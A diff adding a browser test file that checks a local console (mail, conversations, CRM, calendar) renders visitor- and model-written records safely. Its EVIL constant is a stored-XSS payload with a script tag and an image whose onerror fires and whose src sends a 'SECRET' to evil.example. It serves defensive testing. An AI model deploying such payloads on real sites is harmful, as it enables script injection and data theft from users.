@@ -1,0 +1,89 @@
+"""The laptop's pages show what visitors and models wrote; none of it may run or call out."""
+
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from flask import Flask, Response, jsonify, send_from_directory
+from playwright.sync_api import Page, Request, expect
+
+from tests.browser.conftest import ROOT, served, shoot
+from tests.browser.fake_api import ANSWER
+
+EVIL = "<img src=https://evil.example/?q=SECRET onerror=parent.hacked()><script>parent.hacked()</script>"
+MAIL = f"<h2>Thank you</h2><p>{EVIL}<a href='https://www.wrenandkettle.example/pricing/'>Pricing</a></p>"
+RECORDS: dict[str, Any] = {
+    "mails": [
+        {"id": "m2", "from": EVIL, "to": ["ada@example.org"], "subject": EVIL, "html": MAIL, "text": EVIL, "raw": EVIL},
+        {"id": "m1", "from": "a", "to": ["sales@example.org"], "subject": "New lead", "text": "Ada", "raw": "From: a"},
+    ],
+    "conversations": [
+        {
+            "session_id": "s1",
+            "status": "closed",
+            "referrer_page": EVIL,
+            "started_at": "2026-11-22T10:02:00Z",
+            "profile": {"customer_name": EVIL},
+            "lead": {"qualification_score": 72},
+            "turns": [{"seq": 1, "text": EVIL, "reply": {**ANSWER, "text": EVIL}}],
+            "deliveries": [{"recipient": "ada@example.org", "status": "sent"}],
+        }
+    ],
+    "crm": {"hubspot": {"contacts": [{"id": "101", "email": EVIL}], "deals": []}, "zoho": {"leads": []}},
+    "calendar": {"events": [{"id": "e1", "title": EVIL, "start": "2026-12-01T10:30:00Z", "status": "confirmed"}]},
+}
+
+
+@pytest.fixture
+def records() -> dict[str, Any]:
+    return dict(RECORDS)
+
+
+@pytest.fixture
+def console(records: dict[str, Any]) -> Iterator[str]:
+    app = Flask("console")
+
+    @app.get("/_local/<path:name>")
+    def page(name: str) -> Response:
+        return send_from_directory(ROOT / "local" / "console", name)
+
+    @app.get("/_local/api/<name>")
+    def api(name: str) -> Response:
+        return jsonify(records[name])
+
+    with served(app) as address:
+        yield f"{address}/_local"
+
+
+@pytest.mark.parametrize("name", ["mail", "conversations", "crm", "calendar"])
+def test_hostile_records_are_shown_as_text(page: Page, console: str, name: str) -> None:
+    requests: list[Request] = []
+    page.on("request", lambda request: requests.append(request))  # noqa: PLW0108 - no builtin can be a handler
+    page.add_init_script("window.hacks = 0; window.hacked = () => window.hacks++")
+    page.goto(f"{console}/{name}.html")
+    expect(page.locator("main")).to_contain_text("evil.example")
+    assert page.evaluate("hacks") == 0
+    assert [each.url for each in requests if "evil" in each.url] == []
+    shoot(page, f"console-{name}")
+
+
+def test_a_mail_is_shown_with_its_parts(page: Page, console: str) -> None:
+    page.goto(f"{console}/mail.html")
+    link = page.frame_locator("iframe").get_by_role("link", name="Pricing")
+    assert link.get_attribute("href") == f"{console.removesuffix('/_local')}/pricing/"
+    page.get_by_role("button", name="New lead").click()
+    expect(page.locator("article pre")).to_have_text("Ada")
+    page.get_by_role("button", name="Source").click()
+    expect(page.locator("article pre")).to_have_text("From: a")
+    page.reload()
+    expect(page.locator("article h1")).to_have_text("New lead")
+
+
+def test_what_has_just_arrived_appears_by_itself(page: Page, console: str, records: dict[str, Any]) -> None:
+    records["mails"] = []
+    page.clock.install()
+    page.goto(f"{console}/mail.html")
+    expect(page.locator("main")).to_contain_text("No mail yet.")
+    records["mails"] = RECORDS["mails"][1:]
+    page.clock.fast_forward(3000)
+    expect(page.locator("article h1")).to_have_text("New lead")
